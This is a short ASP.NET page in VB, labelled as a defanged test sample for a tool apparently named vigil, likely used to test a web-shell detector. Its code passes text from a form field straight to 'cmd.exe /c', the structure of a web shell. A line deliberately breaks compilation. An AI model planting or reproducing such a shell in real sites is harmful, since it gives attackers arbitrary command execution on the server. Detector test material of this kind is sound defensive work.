<%@ Page Language="VB" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<form runat="server"><asp:TextBox id="txtArg" runat="server"/></form>
<%
Dim p As New Process()
p.StartInfo.FileName = "cmd.exe"
p.StartInfo.Arguments = "/c " & txtArg.Text
p.Start()
%>
